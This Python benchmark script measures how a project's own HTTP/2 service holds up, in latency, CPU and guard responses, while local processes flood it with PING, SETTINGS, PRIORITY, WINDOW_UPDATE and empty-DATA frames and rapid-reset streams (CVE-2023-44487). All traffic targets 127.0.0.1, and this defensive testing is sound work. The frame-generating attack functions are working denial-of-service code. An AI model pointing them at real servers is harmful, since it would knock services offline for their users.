"""A normal HTTP/2 client's latency alone and while other connections abuse HTTP/2.

    .venv/bin/python bench/h2_abuse.py [--rounds 3] [--seconds 5] [--workers 1]
                                       [--service-src DIR]

Starts the service (production settings, TLS, one worker by default, its own database
and Redis prefix), logs a user in, and measures a well-behaved client (GET /api/hello with
a Bearer token, 200 a second on schedule over 2 connections, from 127.0.0.1) alone and
during each attack, in rounds. Each attack runs in a process of its own (niced), from
addresses of its own (127.0.0.2 to 127.0.0.5; all of 127/8 reaches the server), and
reconnects at once whenever the server closes or refuses its connection, as a real
attacker would: PING, SETTINGS, PRIORITY, WINDOW_UPDATE and empty-DATA floods on one
connection, rapid reset (HEADERS + RST_STREAM) from four, and, for reference, four
clients that reconnect for every request (127.0.0.6 to 127.0.0.9, never penalised). It
prints p50/p99 side by side (medians over rounds), the p99 relative to the client alone
in the same round (the machine's other load varies between rounds), the non-200
answers, the worker's CPU, how many attacking connections got through the TLS handshake
and how many of those the server ended with GOAWAY ENHANCE_YOUR_CALM, and how many
attempts the server's penalty box reset at accept. An attacking address stays
penalised from one attack to the next (up to H2_ABUSE_PENALTY_MAX), as a persistent
attacker's would. The report also goes to bench/results/h2_abuse.md. Only 127.0.0.1 is
contacted; everything started is stopped, the database dropped.
`--service-src` runs another source tree (an older commit, say) for comparison.
"""

from __future__ import annotations

import argparse
import asyncio
import multiprocessing
import os
import ssl
import statistics
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import hpack
from hyperframe.frame import (
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

BENCH_DIR = Path(__file__).resolve().parent
RESULTS = BENCH_DIR / "results"
sys.path.insert(0, str(BENCH_DIR))

import backends  # noqa: E402
import client  # noqa: E402
import stacks  # noqa: E402
from drivers import percentiles  # noqa: E402
from h2post import H2Client  # noqa: E402

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CONNECTIONS, RATE = 2, 200  # the normal client: connections, requests a second
NORMAL_CLIENT = "127.0.0.1"
ATTACKERS = [f"127.0.0.{number}" for number in range(2, 6)]
RECONNECTING_CLIENTS = [f"127.0.0.{number}" for number in range(6, 10)]
ENHANCE_YOUR_CALM = 0xB
REQUEST = [(":method", "GET"), (":scheme", "https"), (":path", "/healthz"), (":authority", "x")]


@dataclass
class Latencies:
    """What the normal client saw in one measurement."""

    ms: list[float] = field(default_factory=list)
    non200: int = 0
    errors: int = 0


def tls(cert: Path) -> ssl.SSLContext:
    """Trust the run's certificate; offer only h2."""
    context = client.tls_context(cert)
    context.set_alpn_protocols(["h2"])
    return context


# --- the normal client -------------------------------------------------------------------


async def measure(port: int, cert: Path, token: str, seconds: float) -> Latencies:
    """Send RATE requests a second, on schedule, for seconds; their latencies.

    Open loop: a request waits for nobody, so a stalled server shows as latency (from the
    moment the request was due), not as fewer requests.
    """
    result = Latencies()
    connections = [await _connect(port, cert) for _ in range(CONNECTIONS)]

    async def one(connection: H2Client, due: float) -> None:
        await asyncio.sleep(max(0.0, due - time.perf_counter()))
        try:
            status = await asyncio.wait_for(
                connection.request("GET", f"127.0.0.1:{port}", "/api/hello", token), 30
            )
        except (ConnectionError, TimeoutError, h2.exceptions.ProtocolError):
            result.errors += 1
            return
        result.ms.append((time.perf_counter() - due) * 1000)
        result.non200 += status != 200

    start = time.perf_counter() + 0.05
    count = int(seconds * RATE)
    try:
        await asyncio.gather(
            *(one(connections[n % CONNECTIONS][0], start + n / RATE) for n in range(count))
        )
    finally:
        for connection, reading in connections:
            reading.cancel()
            connection.writer.close()
    return result


async def _connect(port: int, cert: Path) -> tuple[H2Client, asyncio.Task[None]]:
    """A new HTTP/2 connection of the normal client, and the task reading it."""
    reader, writer = await asyncio.open_connection(
        "127.0.0.1",
        port,
        ssl=tls(cert),
        server_hostname="127.0.0.1",
        local_addr=(NORMAL_CLIENT, 0),
    )
    connection = H2Client(reader, writer)
    await connection.open()
    return connection, asyncio.create_task(connection.read_loop())


# --- the attackers -----------------------------------------------------------------------


def repeated(frame: Frame) -> Callable[[Iterator[int]], bytes]:
    """A batch maker that repeats one frame."""
    data = frame.serialize()
    return lambda _ids: data * 500


def ping() -> Frame:
    """A PING."""
    frame = PingFrame(0)
    frame.opaque_data = b"abusive!"
    return frame


def window_update() -> Frame:
    """A one-byte connection WINDOW_UPDATE."""
    frame = WindowUpdateFrame(0)
    frame.window_increment = 1
    return frame


def priorities(ids: Iterator[int]) -> bytes:
    """PRIORITY frames for idle streams."""
    frames = []
    for _ in range(500):
        frame = PriorityFrame(next(ids))
        frame.depends_on, frame.stream_weight = 0, 16
        frames.append(frame.serialize())
    return b"".join(frames)


class RapidReset:
    """HEADERS (GET /healthz) and RST_STREAM at once, on new streams (CVE-2023-44487)."""

    def __init__(self) -> None:
        """Encode with the connection's own HPACK state."""
        self.encoder = hpack.Encoder()

    def __call__(self, ids: Iterator[int]) -> bytes:
        """A batch of opened and cancelled streams."""
        frames = []
        for _ in range(100):
            stream_id = next(ids)
            headers = HeadersFrame(stream_id, flags=["END_HEADERS", "END_STREAM"])
            headers.data = self.encoder.encode(REQUEST)
            reset = RstStreamFrame(stream_id)
            reset.error_code = 8  # CANCEL
            frames += [headers.serialize(), reset.serialize()]
        return b"".join(frames)


def open_stream_one() -> bytes:
    """HEADERS for stream 1 without END_STREAM (empty DATA needs an open stream)."""
    headers = HeadersFrame(1, flags=["END_HEADERS"])
    headers.data = hpack.Encoder().encode(REQUEST)
    return headers.serialize()


def one_request(ids: Iterator[int]) -> bytes:
    """A plain GET /healthz on a new stream."""
    headers = HeadersFrame(next(ids), flags=["END_HEADERS", "END_STREAM"])
    headers.data = hpack.Encoder().encode(REQUEST)
    return headers.serialize()


@dataclass(frozen=True)
class Attack:
    """Connections at once, a batch maker for each connection, what it sends first."""

    connections: int
    make: Callable[[], Callable[[Iterator[int]], bytes]]
    first: bytes = b""
    once: bool = False  # one batch per connection, then a new connection


ATTACKS = {
    "PING flood": Attack(1, lambda: repeated(ping())),
    "SETTINGS flood": Attack(1, lambda: repeated(SettingsFrame(0))),
    "PRIORITY flood": Attack(1, lambda: priorities),
    "WINDOW_UPDATE flood": Attack(1, lambda: repeated(window_update())),
    "empty DATA flood": Attack(1, lambda: repeated(DataFrame(1)), open_stream_one()),
    "rapid reset x4": Attack(4, RapidReset),
    # Not abuse: what any client that reconnects for every request costs, for reference.
    "reconnect per request x4": Attack(4, lambda: one_request, once=True),
}


@dataclass
class AttackTally:
    """What one attacking process did."""

    connections: int = 0  # through the TLS handshake
    calmed: int = 0  # ended by GOAWAY ENHANCE_YOUR_CALM
    refused: int = 0  # reset or refused before the handshake ended


async def attacker(
    name: str, port: int, cert: Path, source: str, deadline: float, tally: AttackTally
) -> None:
    """One attacking connection from source after another until the deadline."""
    attack = ATTACKS[name]
    context = tls(cert)
    while time.monotonic() < deadline:
        try:
            reader, writer = await asyncio.open_connection(
                "127.0.0.1",
                port,
                ssl=context,
                server_hostname="127.0.0.1",
                local_addr=(source, 0),
            )
        except OSError:  # ssl.SSLError included: try again at once
            tally.refused += 1
            continue
        tally.connections += 1
        batch, ids = attack.make(), iter(range(1, 1 << 31, 2))
        if attack.first:
            next(ids)  # stream 1 is taken
        goaway: list[int] = []
        reading = asyncio.create_task(_read_goaway(reader, goaway))
        try:
            writer.write(PREFACE + SettingsFrame(0).serialize() + attack.first)
            while time.monotonic() < deadline and not goaway and not reading.done():
                writer.write(batch(ids))
                await writer.drain()
                await asyncio.sleep(0)  # let the reader see a GOAWAY
                if attack.once:
                    break
        except (ConnectionError, OSError, ssl.SSLError):
            pass
        finally:
            writer.close()
            await asyncio.wait([reading], timeout=1)
            reading.cancel()
        tally.calmed += goaway[:1] == [ENHANCE_YOUR_CALM]


async def _read_goaway(reader: asyncio.StreamReader, goaway: list[int]) -> None:
    """Read and drop the server's frames; note a GOAWAY's error code."""
    try:
        while True:
            head = await reader.readexactly(9)
            frame, length = Frame.parse_frame_header(memoryview(head))
            body = await reader.readexactly(length)
            if isinstance(frame, GoAwayFrame):
                frame.parse_body(memoryview(body))
                goaway.append(frame.error_code)
    except (asyncio.IncompleteReadError, ConnectionError, OSError, ssl.SSLError):
        return


def attack_process(name: str, port: int, cert: str, seconds: float, out: Any) -> None:
    """Run an attack's connections in this process; put its tally on the queue out."""
    os.nice(10)  # an attacker has machines of its own: here it yields the cores first
    count = ATTACKS[name].connections
    tallies = [AttackTally() for _ in range(count)]
    deadline = time.monotonic() + seconds
    sources = RECONNECTING_CLIENTS if ATTACKS[name].once else ATTACKERS

    async def run() -> None:
        await asyncio.gather(
            *(
                attacker(name, port, Path(cert), sources[n % len(sources)], deadline, tally)
                for n, tally in enumerate(tallies)
            )
        )

    asyncio.run(run())
    out.put(
        (
            sum(t.connections for t in tallies),
            sum(t.calmed for t in tallies),
            sum(t.refused for t in tallies),
        )
    )


# --- the run -----------------------------------------------------------------------------


@dataclass
class Row:
    """One line of the report."""

    name: str
    seen: Latencies
    worker_cpu: float  # share of one core the worker used
    connections: int = 0
    calmed: int = 0
    refused: int = 0


def cpu_seconds(pid: int) -> float:
    """User and system CPU time of a process so far."""
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def run_scenario(name: str, port: int, cert: Path, token: str, seconds: float, worker: int) -> Row:
    """Measure the normal client while the attack called name runs (or alone)."""
    if name not in ATTACKS:
        cpu = cpu_seconds(worker)
        seen = asyncio.run(measure(port, cert, token, seconds))
        return Row(name, seen, (cpu_seconds(worker) - cpu) / seconds)
    context = multiprocessing.get_context("spawn")
    out = context.Queue()
    process = context.Process(
        target=attack_process, args=(name, port, str(cert), seconds + 1.0, out)
    )
    process.start()
    try:
        time.sleep(0.5)  # let the attack get going
        cpu = cpu_seconds(worker)
        seen = asyncio.run(measure(port, cert, token, seconds))
        used = (cpu_seconds(worker) - cpu) / seconds
        connections, calmed, refused = out.get(timeout=30)
    finally:
        process.join(10)
        if process.is_alive():
            process.kill()
    return Row(name, seen, used, connections, calmed, refused)


def report(rounds: list[list[Row]]) -> str:
    """Per scenario: the median over rounds of p50, p99 and p99 relative to that round's alone."""
    lines = [
        "| normal client during | requests | p50 ms | p99 ms | p99 vs alone (each round) "
        "| non-200 | errors | worker CPU | attacking connections | ended by ENHANCE_YOUR_CALM "
        "| refused at accept |",
        "| --- | ---: | ---: | ---: | ---: | ---: | ---: | ---: | ---: | ---: | ---: |",
    ]
    for index, name in enumerate(row.name for row in rounds[0]):
        rows = [each[index] for each in rounds]
        cuts = [percentiles(sorted(row.seen.ms)) for row in rows]
        bases = [percentiles(sorted(each[0].seen.ms))[1] or 1.0 for each in rounds]
        ratios = [p99 / base for (_, p99), base in zip(cuts, bases, strict=True)]
        connections = sum(row.connections for row in rows)
        calmed = sum(row.calmed for row in rows)
        refused = sum(row.refused for row in rows)
        attacked = connections or refused
        lines.append(
            f"| {name} | {sum(len(row.seen.ms) for row in rows)} "
            f"| {statistics.median(p50 for p50, _ in cuts):.1f} "
            f"| {statistics.median(p99 for _, p99 in cuts):.1f} "
            f"| {statistics.median(ratios):.2f}x ({', '.join(f'{r:.1f}' for r in ratios)}) "
            f"| {sum(row.seen.non200 for row in rows)} | {sum(row.seen.errors for row in rows)} "
            f"| {statistics.mean(row.worker_cpu for row in rows):.0%} "
            f"| {connections if attacked else ''} | {calmed if attacked else ''} "
            f"| {refused if attacked else ''} |"
        )
    return "\n".join(lines)


def main(argv: list[str] | None = None) -> int:
    """Start the service, measure every scenario, print the table, clean up."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--seconds", type=float, default=5.0, help="per scenario and round")
    parser.add_argument("--rounds", type=int, default=3, help="rounds of every scenario")
    parser.add_argument("--workers", default="1", help="service workers (default 1)")
    parser.add_argument("--only", action="append", choices=ATTACKS, help="these attacks only")
    parser.add_argument("--service-src", type=Path, default=BENCH_DIR.parent)
    args = parser.parse_args(argv)
    sys.path.insert(0, str(args.service_src.resolve()))
    with tempfile.TemporaryDirectory(prefix="h2-abuse-") as workdir:
        made = backends.create(Path(workdir))
        stack = stacks.ours(made, args.service_src.resolve())
        stack.command[stack.command.index("--workers") + 1] = args.workers
        try:
            stacks.migrate(stack)
            stacks.start(stack, Path(workdir))
            stacks.wait_ready(stack, client.tls_context(made.cert))
            context = client.tls_context(made.cert)
            client.register(stack.port, context)
            token = client.login(stack.port, context).access
            client.smoke(stack.port, context, client.Pair(token, ""))
            asyncio.run(measure(stack.port, made.cert, token, 2.0))  # warm up
            (worker,) = stacks.worker_pids(stack)[:1]
            rounds: list[list[Row]] = []
            for number in range(args.rounds):
                rounds.append([])
                for name in ["alone", *(args.only or ATTACKS)]:
                    print(f"round {number + 1}: {name}", file=sys.stderr)
                    row = run_scenario(name, stack.port, made.cert, token, args.seconds, worker)
                    rounds[-1].append(row)
            log = stack.log_path.read_text(errors="replace") if stack.log_path else ""
        finally:
            stacks.stop(stack)
            backends.drop(made)
    text = "\n".join(
        [
            f"service: {args.service_src.resolve()}, {args.workers} worker(s), "
            f"{args.rounds} rounds of {args.seconds:.0f} s per scenario, {RATE} GET "
            f"/api/hello a second over {CONNECTIONS} connections",
            report(rounds),
            f"server log: {log.count('Traceback')} tracebacks, "
            f"{log.count('ENHANCE_YOUR_CALM')} guard lines, "
            f"{log.count('refused at accept')} penalty-box lines",
        ]
    )
    print(text)
    RESULTS.mkdir(exist_ok=True)
    (RESULTS / "h2_abuse.md").write_text(text + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
